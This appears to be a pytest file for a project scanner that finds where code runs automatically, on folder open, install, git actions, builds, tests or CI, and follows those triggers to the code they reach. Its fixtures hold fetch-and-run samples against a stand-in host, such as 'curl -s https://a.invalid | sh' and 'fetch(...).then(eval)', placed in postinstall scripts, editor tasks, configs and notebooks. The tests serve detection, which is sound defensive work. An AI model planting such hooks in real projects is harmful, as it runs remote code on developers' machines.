"""What runs, and when: every kind of configuration that is known, and how a trigger reaches files."""

import pytest

from sekisho.inspection.findings import Moment
from support.inspection import Files, inspected, lines_of, verdict_by

WORKFLOW = """on: [push]
jobs:
  a:
    runs-on: self-hosted
    steps:
      - uses: actions/checkout@v4
      - run: |
          echo hello
          echo ${{ secrets.TOKEN }}
"""

STARTUP = """<component name="ProjectStartupSharedConfiguration">
<configurations><configuration name="a" type="ShConfigurationType" /></configurations></component>
"""
RUN = """<component name="ProjectRunConfigurationManager">
<configuration name="a" type="ShConfigurationType">
<option name="SCRIPT_TEXT" value="curl https://a.invalid | sh" /></configuration></component>
"""

TRIGGERS: dict[str, tuple[Files, Moment, str, int, str]] = {  # files, when, by, line, what runs
    "a setting that names a program here": (
        {".vscode/settings.json": '{\n// ours\n"python.defaultInterpreterPath": "${workspaceFolder}/bin/py"}'},
        Moment.OPEN, "VS Code setting python.defaultInterpreterPath", 3, "./bin/py"),
    "a setting that lets tasks run": (
        {".vscode/settings.json": '{"task.allowAutomaticTasks": "on"}'},
        Moment.OPEN, "VS Code setting that lets tasks run unasked", 1, ""),
    "a task for one system": (
        {".vscode/tasks.json": '{"tasks": [{"label": "a", "windows": {\n"command": "echo w"},'
                               ' "runOptions": {"runOn": "folderOpen"}}]}'},
        Moment.OPEN, "VS Code task (windows)", 2, "echo w"),
    "a task that another depends on": (
        {".vscode/tasks.json": '{"tasks": [{"label": "a", "dependsOn": ["b"], "runOptions": {"runOn": "folderOpen"}},\n'
                               '{"label": "b", "command": "echo", "args": ["hi there"]}]}'},
        Moment.OPEN, "VS Code task", 2, "echo 'hi there'"),
    "F5": ({".vscode/launch.json": '{"configurations": [{"type": "node",\n"program": "${workspaceFolder}/a.js"}]}'},
           Moment.RUN, "VS Code launch configuration", 2, "node ./a.js"),
    "a dev container's steps by name": (
        {".devcontainer.json": '{"postCreateCommand": {\n"a": "echo a", "b": ["echo", "b"]}}'},
        Moment.OPEN, "dev container (postCreateCommand)", 2, "echo b"),
    "a hook of a coding agent": (
        {".claude/settings.json": '{"hooks": {"Start": [{"hooks": [{"type": "command",\n"command": "echo hi"}]}]}}'},
        Moment.OPEN, "hook of a coding agent", 2, "echo hi"),
    "direnv": ({".envrc": "export A=1\n"}, Moment.OPEN, "direnv", 1, "export A=1"),
    "mise": ({"mise.toml": '[hooks]\nenter = "echo hi"\n'}, Moment.OPEN, "mise hook 'enter'", 2, "echo hi"),
    "husky": ({".husky/pre-commit": "npm test\n"}, Moment.GIT, "git hook 'pre-commit'", 1, ".husky/pre-commit"),
    "a local pre-commit hook": (
        {".pre-commit-config.yaml": "repos:\n- repo: local\n  hooks:\n  - id: a\n    entry: echo\n    args: [hi]\n"},
        Moment.GIT, "pre-commit hook", 5, "echo hi"),
    "a hooks folder": ({".git/config": "[core]\n\thooksPath = .hooks\n", ".hooks/pre-push": "echo hi\n"},
                       Moment.GIT, "git configuration core.hookspath", 2, ".hooks"),
    "an alias that is a program": ({".git/config": "[alias]\n\tst = !echo hi\n"},
                                   Moment.GIT, "git configuration alias.st", 2, "echo hi"),
    "a submodule that runs on update": ({".gitmodules": '[submodule "a"]\n\tupdate = !echo hi\n'},
                                        Moment.GIT, "git configuration submodule.a.update", 2, "echo hi"),
    "setup.py": ({"setup.py": "import setuptools\n"}, Moment.INSTALL, "setup.py", 1, "python setup.py"),
    "a backend of the project's own": (
        {"pyproject.toml": '[build-system]\nbackend-path = ["."]\nbuild-backend = "back"\n', "back.py": "x = 1\n"},
        Moment.INSTALL, "build backend in the project", 2, "python back.py"),
    "a command in binding.gyp": ({"binding.gyp": '{"targets": [{\n"a": "<!(echo hi)"}]}'},
                                 Moment.INSTALL, "command in binding.gyp", 2, "echo hi"),
    "tests": ({"tests/conftest.py": "x = 1\n"}, Moment.TEST, "pytest", 1, "tests/conftest.py"),
    "tox": ({"tox.ini": "[testenv]\ncommands =\n    echo hi\n"}, Moment.TEST, "tox", 3, "echo hi"),
    "a configuration that is a program": ({"vite.config.ts": "export default {}\n"},
                                          Moment.BUILD, "configuration that is a program", 1, "vite.config.ts"),
    "a container's build": ({"Dockerfile": "FROM x\nRUN echo a && \\\n    echo b\n"},
                            Moment.BUILD, "container (RUN)", 2, "echo a && echo b"),
    "a container's start": (
        {"Dockerfile": 'FROM x\nCMD ["echo", "hi"]\n'}, Moment.RUN, "container (CMD)", 2, "echo hi"),
    "a service": ({"compose.yml": "services:\n  a:\n    command: echo hi\n"},
                  Moment.RUN, "container service 'a'", 3, "echo hi"),
    "a push, with a secret, on one's own machine": (
        {".github/workflows/a.yml": WORKFLOW}, Moment.PUSH,
        "GitHub workflow on push, on your own machine, with TOKEN", 8, "echo hello echo $_"),
    "a push to GitLab": ({".gitlab-ci.yml": "a:\n  script:\n    - echo hi\n"},
                         Moment.PUSH, "GitLab job 'a'", 3, "echo hi"),
    "a page": ({"index.html": "<script>\nlet x = 1;\n</script>\n"}, Moment.RUN, "opened in a browser", 1, "index.html"),
}  # fmt: skip


@pytest.mark.parametrize(("files", "when", "by", "line", "runs"), TRIGGERS.values(), ids=TRIGGERS.keys())
def test_it_is_named_with_its_moment_and_line(files: Files, when: Moment, by: str, line: int, runs: str) -> None:
    found = [(each.when, each.by, each.site.line, each.site.text) for each in inspected(files).triggers]
    assert (when, by, line, runs) in found


def test_a_builder_loads_by_itself_only_what_is_called_as_it_looks_for() -> None:
    assert not inspected({"build/webpack-config.js": "module.exports = {};\n"}).triggers


def test_what_a_push_takes_from_elsewhere_is_listed_as_unread() -> None:
    needs = inspected({".github/workflows/a.yml": WORKFLOW}).needs
    assert [(need.name, need.origin) for need in needs] == [("actions/checkout@v4", "GitHub")]


FETCH = "curl -s https://a.invalid | sh\n"
REACHED: dict[str, tuple[Files, tuple[str, int]]] = {  # a chain at a place that only a trigger elsewhere leads to
    "npm run within a script": (
        {"package.json": '{"scripts": {"postinstall": "npm run go",\n"go": "curl -s https://a.invalid | sh"}}'},
        ("package.json", 2)),
    "a script's file, from another folder": (
        {"package.json": '{"scripts": {"postinstall": "node tools/a"}}',
         "tools/a.js": "require('child_process').execSync('sh ../b.sh');\n", "b.sh": FETCH},
        ("b.sh", 1)),
    "a builder's configuration by its path": (
        {"package.json": '{"scripts": {"build": "npx webpack --mode production -c build/webpack-config.js"}}',
         "build/webpack-config.js": "fetch('https://a.invalid').then(r => r.text()).then(eval);\n"},
        ("build/webpack-config.js", 1)),
    "what a test runner loads first": (
        {"package.json": '{"scripts": {"test": "karma start karma-conf.js"}}',
         "karma-conf.js": "fetch('https://a.invalid').then(r => r.text()).then(eval);\n"}, ("karma-conf.js", 1)),
    "a server's configuration": (
        {"Dockerfile": "FROM x\nCMD gunicorn -c python:serving.py app:app\n",
         "serving.py": "import requests\nexec(requests.get('https://a.invalid').text)\n"}, ("serving.py", 2)),
    "an import of an import": (
        {"setup.py": "import tools\n", "tools/__init__.py": "from . import net\n",
         "tools/net.py": "import os\nos.system('curl -s https://a.invalid | sh')\n"},
        ("tools/net.py", 2)),
    "a hooks folder": (
        {".git/config": "[core]\n\thooksPath = .hooks\n", ".hooks/pre-push": FETCH}, (".hooks/pre-push", 1)),
    "a page's program": (
        {"index.html": '<script type="module" src="/src/go.js"></script>\n',
         "src/go.js": "fetch('https://a.invalid').then(r => r.text()).then(eval);\n"}, ("src/go.js", 1)),
    "make": ({"Makefile": "all:\n\tsh a.sh\n", "a.sh": FETCH}, ("a.sh", 1)),
    "a here-document": (
        {"package.json": '{"scripts": {"install": "sh a.sh"}}',
         "a.sh": "python - <<'EOF'\nimport os\nos.system('curl -s https://a.invalid | sh')\nEOF\n"},
        ("a.sh", 3)),
    "a shell line of a notebook": (
        {"a.ipynb": '{"cells": [{"cell_type": "code", "source": ["x = 1\\n",\n"!curl -s https://a.invalid | sh"]}]}'},
        ("a.ipynb", 2)),
    "a file run by another interpreter": (
        {".vscode/tasks.json": '{"tasks": [{"command": "node data.txt", "runOptions": {"runOn": "folderOpen"}}]}',
         "data.txt": "fetch('https://a.invalid').then(r => r.text()).then(eval);\n"},
        ("data.txt", 1)),
}  # fmt: skip


@pytest.mark.parametrize(("files", "place"), REACHED.values(), ids=REACHED.keys())
def test_a_trigger_is_followed_to_what_it_runs(files: Files, place: tuple[str, int]) -> None:
    chains = [chain for chain in inspected(files).chains if place in {step.site[:2] for step in chain.steps}]
    assert chains
    assert any(chain.steps[0].kind == "trigger" for chain in chains)


def test_a_module_of_the_input_shadows_an_installed_one() -> None:
    files = {"app.py": "import json\njson.loads('x')\n", "json.py": "import requests\n"
             "def loads(x):\n    exec(requests.get('https://a.invalid').text)\n"}  # fmt: skip
    assert verdict_by(files, "remote_code") == "block"
    assert ("json.py", 3) in lines_of(files, "remote_code")


def test_a_flow_crosses_three_files_and_a_class() -> None:
    files = {
        "app.py": "from a.client import Client\nfrom a.show import show\nshow(Client('https://a.invalid').fetch())\n",
        "a/client.py": "import requests\nclass Client:\n    def __init__(self, url): self.url = url\n"
        "    def fetch(self):\n        return requests.get(self.url).text\n",
        "a/show.py": "from .deep import go\ndef show(x):\n    go(x)\n",
        "a/deep.py": "def go(x):\n    exec(x)\n",
    }
    assert lines_of(files, "remote_code") >= {("a/client.py", 5), ("a/deep.py", 2)}


def test_common_js_modules_are_followed() -> None:
    files = {
        "index.js": "const { get } = require('./lib');\nget().then(t => require('./lib/run')(t));\n",
        "lib/index.js": "exports.get = async () => (await fetch('https://a.invalid')).text();\n",
        "lib/run.js": "module.exports = text => { eval(text); };\n",
    }
    assert verdict_by(files, "remote_code") == "block"


def test_a_start_up_task_of_jetbrains_is_followed_to_its_command() -> None:
    files: Files = {".idea/startup.xml": STARTUP, ".idea/runConfigurations/a.xml": RUN}
    assert (".idea/runConfigurations/a.xml", 3) in lines_of(files, "fetch_and_run")
    assert verdict_by(files, "fetch_and_run") == "block"
    assert verdict_by({".idea/startup.xml": STARTUP}, "unread_code") == "review"
    assert (
        verdict_by(
            {".idea/startup.xml": STARTUP, ".run/a.xml": RUN.replace("curl https://a.invalid | sh", "echo hi")},
            "unread_code",
        )
        == ""
    )
